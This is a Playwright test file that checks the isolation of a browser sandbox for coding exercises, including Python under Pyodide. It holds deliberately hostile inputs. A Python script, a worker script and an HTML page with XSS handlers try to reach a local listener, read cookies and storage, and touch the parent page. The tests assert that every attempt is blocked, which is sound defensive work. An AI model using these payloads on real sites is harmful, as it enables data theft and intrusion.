import { randomUUIDv7 } from 'node:crypto';
import type { Exercise, ExerciseCheck } from '@atelier/contracts/exercise';
import type { Run, Verdict } from '@atelier/contracts/exercise-verdict';
import type { SourceFile } from '@atelier/contracts/exercise-files';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { startAtelier, type Atelier } from './support/atelier.js';
import { launchBrowser } from './support/browser.js';
import {
  buildExerciseHarness,
  lastingEvaluate,
  listenForIntruders,
  openExerciseHarness,
} from './support/exercise-harness.js';
import { poll } from './support/eventually.js';

type Language = Exercise['language'];

/** What the harness puts on its window. */
interface Engine {
  state: string;
  load(language: Language): Promise<string>;
  run(files: SourceFile[], entry: string): Promise<Run>;
  check(exercise: Exercise, files: SourceFile[]): Promise<Verdict>;
  dispose(): void;
}
declare const window: {
  newEngine(): Engine;
  ExerciseEngine: new (container: unknown, filesOf: () => Promise<object>) => Engine;
  engine: Engine;
  running: Promise<Run>;
  beats: number;
};
declare const document: {
  body: unknown;
  querySelector(selector: string): { contentDocument: unknown } | null;
  querySelectorAll(selector: string): { length: number };
};
declare const localStorage: { getItem(key: string): string | null };
declare const setInterval: (call: () => void, delay: number) => number;

const code = (test: string): ExerciseCheck => ({ kind: 'code', _id: randomUUIDv7(), sentence: 'Va.', test });
const exerciseOf = (language: Language, name: string, checks: ExerciseCheck[]): Exercise => ({
  language,
  statement: '',
  files: [{ name, visibility: 'given', start: '' }],
  checks,
  counts: false,
});

describe('the engines of exercises in a browser', () => {
  let atelier: Atelier;
  let browser: Browser;
  let context: BrowserContext;
  let intruders: Awaited<ReturnType<typeof listenForIntruders>>;
  let page: Page;

  beforeAll(async () => {
    [atelier, browser, intruders] = await Promise.all([
      startAtelier({ worker: false }),
      launchBrowser(),
      listenForIntruders(),
      buildExerciseHarness(),
    ]);
  });
  afterAll(async () => {
    await browser?.close();
    await intruders?.close();
    await atelier?.close();
  });
  beforeEach(async () => {
    context = await browser.newContext({ baseURL: atelier.url, serviceWorkers: 'block' });
    page = await openExerciseHarness(context, atelier);
    intruders.requests.length = 0;
  });
  afterEach(async () => {
    await poll(() => page.evaluate(() => localStorage.getItem('user'))).toBe('Maud');
    await context.close();
  });

  const load = (language: Language): Promise<string> =>
    page.evaluate((name) => {
      window.engine = window.newEngine();
      return window.engine.load(name);
    }, language);
  const run = (name: string, text: string): Promise<Run> =>
    page.evaluate(([file, source]) => window.engine.run([{ name: file, text: source }], file), [
      name,
      text,
    ] as const);
  const check = (exercise: Exercise, text: string): Promise<Verdict> =>
    page.evaluate(
      ([asked, source]) => window.engine.check(asked, [{ name: asked.files[0]?.name ?? '', text: source }]),
      [exercise, text] as const,
    );
  const outcomes = ({ checks }: Verdict) => checks.map(({ outcome }) => outcome);
  /** An engine whose script is a stranger's, as if a program had taken it over. */
  const loadHostile = async (script: string): Promise<string> => {
    await page.route('**/hostile.js', (route) =>
      route.fulfill({ contentType: 'text/javascript', body: script }),
    );
    return page.evaluate(() => {
      const files = { script: '/hostile.js', wasm: '/hostile.js' };
      window.engine = new window.ExerciseEngine(document.body, () => Promise.resolve(files));
      return window.engine.load('javascript');
    });
  };

  it('run JavaScript, TypeScript, SQL and HTML, each loaded when it is asked for', async () => {
    proves('exercise.engine');

    expect(await load('javascript')).toBe('ready');
    expect(await run('essai.js', 'console.log([1, 2].map((n) => n * 2))')).toMatchObject({
      output: '[ 2, 4 ]',
      error: null,
    });
    const js = exerciseOf('javascript', 'main.js', [
      code('attendre(un()).egal(1)'),
      code('attendre(un()).egal(2)'),
    ]);
    expect(outcomes(await check(js, 'export const un = () => 1'))).toEqual(['passed', 'failed']);

    expect(await load('typescript')).toBe('ready');
    const ts = exerciseOf('typescript', 'main.ts', [code('attendre(un() as number).egal(1)')]);
    expect(outcomes(await check(ts, 'export const un = (): number => 1'))).toEqual(['passed']);

    expect(await load('sql')).toBe('ready');
    const sql = exerciseOf('sql', 'main.sql', [
      { kind: 'sql', _id: randomUUIDv7(), sentence: 'Va.', query: '', rows: [[1]], isOrdered: true },
    ]);
    expect(outcomes(await check(sql, 'select 1 as un'))).toEqual(['passed']);

    expect(await load('html')).toBe('ready');
    const html = { kind: 'html', sentence: 'Va.' } as const;
    const checks: ExerciseCheck[] = [
      {
        ...html,
        _id: randomUUIDv7(),
        selector: 'h1',
        reads: 'property',
        property: 'textContent',
        expected: 'Bonjour',
      },
      {
        ...html,
        _id: randomUUIDv7(),
        selector: 'h1',
        reads: 'style',
        property: 'color',
        expected: 'rgb(255, 0, 0)',
      },
      { ...html, _id: randomUUIDv7(), selector: 'li', reads: 'count', property: '', expected: '2' },
      { ...html, _id: randomUUIDv7(), selector: 'p', reads: 'property', property: 'id', expected: 'x' },
      { ...html, _id: randomUUIDv7(), selector: '::::', reads: 'count', property: '', expected: '1' },
    ];
    const text = '<style>h1 { color: red }</style><h1>Bonjour</h1><ul><li>1<li>2</ul>';
    expect(outcomes(await check(exerciseOf('html', 'page.html', checks), text))).toEqual([
      'passed',
      'passed',
      'passed',
      'failed',
      'broken',
    ]);
  });

  it('run Python, with its own modules and without any connection', async () => {
    proves('exercise.python');

    expect(await load('python')).toBe('ready');
    const program = `import json, random
from collections import Counter
print(json.dumps(Counter('abca')), 'é', random.random() < 1)
1 / 0`;
    expect(await run('main.py', program)).toMatchObject({
      output: '{"a": 2, "b": 1, "c": 1} é True\n',
      error: { message: 'ZeroDivisionError: division by zero', position: { file: 'main.py', line: 4 } },
    });
    const exercise = exerciseOf('python', 'prets.py', [
      code("attendre(emprunter('L-204')).egal({'statut': 201})"),
      code("attendre(emprunter('L-204')['statut']).egal(200)"),
      code("attendre(lambda: emprunter('X')).rejette(KeyError)"),
      code("attendre(emprunter('L-204')['statut']).egal("),
      code('emprunter'),
    ]);
    exercise.files[0]!.solution =
      "def emprunter(e):\n    if e == 'X': raise KeyError(e)\n    return {'statut': 201}";
    const verdict = await check(
      exercise,
      "en_cours = []\ndef emprunter(e):\n    en_cours.append(e)\n    return {'statut': 200 + len(en_cours)}",
    );
    expect(outcomes(verdict)).toEqual(['passed', 'failed', 'failed', 'broken', 'broken']);
    expect(verdict.checks[1]).toMatchObject({ expected: '200', received: '201' });
    expect(verdict.checks[2]).toMatchObject({ expected: 'KeyError', received: 'aucune erreur' });
    expect((await check(exercise, 'def emprunter(:')).error).toMatchObject({
      position: { file: 'prets.py', line: 1 },
    });

    const reaching = `import asyncio, js
from pyodide.ffi import run_sync
names = [name for name in ('fetch', 'self', 'postMessage', 'XMLHttpRequest', 'WebSocket') if hasattr(js, name)]
print(names)
for module in ('micropip', 'socket', 'urllib.request'):
    try:
        found = __import__(module)
        if module == 'micropip': print('reached', module)
        elif module == 'urllib.request': found.request.urlopen('${intruders.address}/urllib')
        # Emscripten's socket is a WebSocket, which connects later.
        else: found.create_connection(('127.0.0.1', ${new URL(intruders.address).port}), 1).send(b'x')
    except Exception as error:
        print(type(error).__name__ != '')
try:
    from pyodide.code import run_js
    run_js("fetch('${intruders.address}/js')")
    print('reached')
except BaseException: print(True)
try:
    from pyodide_js import loadPackage
    run_sync(loadPackage('${intruders.address}/x.whl'))
    print('reached')
except BaseException: print(True)`;
    const reached = await run('main.py', reaching);
    expect(reached.output).not.toMatch(/reached/);
    expect(reached.output.split('\n')[0]).toBe('[]');
    expect(intruders.requests).toEqual([]);

    expect((await run('main.py', 'a = []\nwhile True: a.append(bytearray(10 ** 7))')).stopped).toMatchObject({
      reason: 'memory',
    });
    expect((await run('main.py', "while True: print('x' * 100)")).stopped).toMatchObject({ reason: 'time' });
    expect((await run('main.py', 'print(1)')).output).toBe('1\n');
  }, 120_000);

  it('stop a program without an end, while the page goes on, and start again', async () => {
    proves('exercise.engine-stops');

    await page.evaluate(() => {
      window.beats = 0;
      setInterval(() => (window.beats += 1), 50);
    });
    await load('javascript');
    const endless = await run('essai.js', 'let n = 0;\nfor (;;) n += 1;');
    expect(endless.stopped).toMatchObject({ reason: 'time', position: { file: 'essai.js', line: 2 } });
    expect((await run('essai.js', 'console.log(1)')).output).toBe('1');

    await load('sql');
    const query = 'with recursive n(i) as (select 1 union all select i + 1 from n) select count(*) from n';
    expect((await run('main.sql', query)).stopped).toMatchObject({ reason: 'time' });
    expect((await run('main.sql', 'select 1')).error).toBeNull();
    await poll(() => page.evaluate(() => window.beats)).toBeGreaterThan(50);
  });

  it('leave the page alone when the process of their frame dies, and start again', async () => {
    proves('exercise.frame-dies');

    const evaluate = await lastingEvaluate(page);
    const endless = () => {
      window.running = window.engine.run([{ name: 'essai.js', text: 'for (;;);' }], 'essai.js');
    };
    const short = () => window.engine.run([{ name: 'essai.js', text: 'console.log(1)' }], 'essai.js');
    await load('javascript');
    const [, frame] = page.frames();
    const process = await context.newCDPSession(frame!);
    await evaluate(endless);
    process.send('Page.crash').catch(() => undefined);
    expect((await evaluate(() => window.running)).stopped).toMatchObject({ reason: 'crash' });
    expect(await evaluate(short)).toMatchObject({ output: '1', stopped: null });
    expect(await evaluate(() => document.querySelectorAll('iframe').length)).toBe(1);
    page = await openExerciseHarness(context, atelier);
  });

  it('are in a frame of another origin, which the page cannot look into and which reaches nothing', async () => {
    proves('exercise.frame');

    const frame = await page.request.get('/exercise-frame');
    expect(frame.headers()['content-security-policy']).toMatch(/^default-src 'none'.*sandbox allow-scripts$/);
    const hostile = `
      const address = ${JSON.stringify(intruders.address)};
      const attempt = async (name, use) => { try { await use(); return name; } catch { return ''; } };
      self.onmessage = async ({ data }) => {
        if (data.kind === 'load') return self.postMessage({ kind: 'ready' });
        const done = await Promise.all([
          attempt('fetch', () => fetch(address + '/fetch')),
          attempt('own', () => fetch(${JSON.stringify(atelier.url)} + '/api/config', { mode: 'no-cors' })),
          attempt('xhr', () => new Promise((resolve, reject) => { const x = new XMLHttpRequest(); x.onload = resolve; x.onerror = reject; x.open('GET', address); x.send(); })),
          attempt('socket', () => new Promise((resolve, reject) => { const s = new WebSocket(address.replace('http', 'ws')); s.onopen = resolve; s.onerror = reject; })),
          attempt('events', () => new Promise((resolve, reject) => { const s = new EventSource(address); s.onopen = resolve; s.onerror = reject; })),
          attempt('import', () => import(address + '/module.js')),
          attempt('scripts', () => importScripts(address + '/script.js')),
          attempt('worker', () => new Promise((resolve, reject) => { const w = new Worker(address + '/worker.js'); w.onmessage = resolve; w.onerror = reject; })),
          attempt('eval', () => eval('1')),
          attempt('function', () => new Function('return 1')()),
          attempt('indexed', () => new Promise((resolve, reject) => { const o = indexedDB.open('x'); o.onsuccess = resolve; o.onerror = reject; })),
          attempt('caches', () => caches.open('x')),
          attempt('storage', () => localStorage.setItem('user', 'x')),
          attempt('cookies', () => cookieStore.getAll().then((all) => { if (all.length === 0) throw 1; })),
          attempt('parent', () => parent.document.title),
          attempt('files', () => navigator.storage.getDirectory()),
        ]);
        const output = done.filter(Boolean).join(' ') + '|' + self.origin;
        self.postMessage({ kind: 'answer', id: data.id, result: JSON.stringify({ output, isOutputCut: false, error: null, stopped: null, milliseconds: 1, tables: [] }) });
      };`;
    expect(await loadHostile(hostile)).toBe('ready');
    expect((await run('a.js', '')).output).toBe('|null');
    expect(intruders.requests).toEqual([]);
    await poll(() =>
      page.evaluate(() => document.querySelector('iframe')?.contentDocument ?? null),
    ).toBeNull();
  });

  it.each([
    [
      'answers before it is asked',
      "self.onmessage = ({ data }) => { for (let id = 0; id < 50; id += 1) self.postMessage({ kind: 'answer', id, result: '{}' }); if (data.kind === 'load') self.postMessage({ kind: 'ready' }); }",
    ],
    [
      'answers something else than a verdict',
      "self.onmessage = ({ data }) => self.postMessage(data.kind === 'load' ? { kind: 'ready' } : { kind: 'answer', id: data.id, result: '{\"checks\":[]}' })",
    ],
    [
      'answers with what is no text',
      "self.onmessage = ({ data }) => self.postMessage(data.kind === 'load' ? { kind: 'ready' } : { kind: 'answer', id: data.id, result: { checks: [] } })",
    ],
    [
      'floods',
      "self.onmessage = ({ data }) => { if (data.kind === 'load') self.postMessage({ kind: 'ready' }); else for (let n = 0; n < 100000; n += 1) self.postMessage({ kind: 'x', n }); }",
    ],
    [
      'throws',
      "self.onmessage = ({ data }) => { if (data.kind === 'load') self.postMessage({ kind: 'ready' }); else throw new Error('non'); }",
    ],
    [
      'answers too much',
      "self.onmessage = ({ data }) => self.postMessage(data.kind === 'load' ? { kind: 'ready' } : { kind: 'answer', id: data.id, result: ' '.repeat(1e7) })",
    ],
  ])('forge nothing for an engine that %s', async (_name, script) => {
    proves('exercise.frame');

    await loadHostile(script);
    const exercise = exerciseOf('javascript', 'main.js', [code('attendre(1).egal(1)')]);
    const verdict = await check(exercise, '');
    expect(outcomes(verdict)).toEqual(['failed']);
    expect(verdict.stopped).not.toBeNull();
    // The page has an engine of ours again when it asks for one.
    await load('javascript');
    expect(outcomes(await check(exercise, ''))).toEqual(['passed']);
  });

  it('show a hostile page without running or loading anything of it', async () => {
    proves('exercise.frame');

    const { address } = intruders;
    await load('html');
    const text = `<!doctype html><head><base href="${address}"><meta http-equiv="refresh" content="0;url=${address}/refresh">
      <link rel="stylesheet" href="${address}/link.css"><link rel="preconnect" href="${address}">
      <style>@import url("${address}/import.css"); body { background: url("${address}/css.png") } @font-face { font-family: x; src: url("${address}/f.woff") } p { font-family: x }</style></head>
      <body onload="top.location='${address}/onload'"><p>texte</p><img src="${address}/img.png" onerror="parent.postMessage('volé', '*')">
      <script>fetch("${address}/script")</script><svg onload="fetch('${address}/svg')"><script>alert(1)</script></svg>
      <iframe src="${address}/iframe"></iframe><object data="${address}/object"></object><video src="${address}/video" autoplay></video>
      <form name="querySelectorAll" action="${address}/form"><input name="documentElement"><button id="envoyer">ok</button></form>
      <a id="lien" href="${address}/lien" ping="${address}/ping">lien</a><a href="javascript:parent.postMessage(1,'*')">x</a></body>`;
    const exercise = exerciseOf('html', 'page.html', [
      {
        kind: 'html',
        _id: randomUUIDv7(),
        sentence: 'Va.',
        selector: 'p',
        reads: 'property',
        property: 'textContent',
        expected: 'texte',
      },
      {
        kind: 'html',
        _id: randomUUIDv7(),
        sentence: 'Va.',
        selector: 'script, iframe, meta, base',
        reads: 'count',
        property: '',
        expected: '0',
      },
    ]);
    expect(outcomes(await check(exercise, text))).toEqual(['passed', 'passed']);
    const frame = page.frameLocator('iframe');
    await frame
      .locator('#lien')
      .click({ noWaitAfter: true, timeout: 5000 })
      .catch(() => undefined);
    await page.waitForURL('/harness.html');
    expect(intruders.requests).toEqual([]);
  });

  it('say that WebAssembly is forbidden, or that the network is away, and come back', async () => {
    proves('exercise.engine-states');

    await page.route('**/exercise-frame', async (route) => {
      const answer = await route.fetch();
      const policy = answer.headers()['content-security-policy']?.replace("'wasm-unsafe-eval'", '') ?? '';
      await route.fulfill({
        response: answer,
        headers: { ...answer.headers(), 'content-security-policy': policy },
      });
    });
    expect(await load('javascript')).toBe('blocked');
    await page.unroute('**/exercise-frame');

    await page.route('**/harness/assets/**', (route) => route.abort('internetdisconnected'));
    expect(await load('sql')).toBe('offline');
    await page.unroute('**/harness/assets/**');
    expect(await page.evaluate(() => window.engine.load('sql'))).toBe('ready');
  });
});
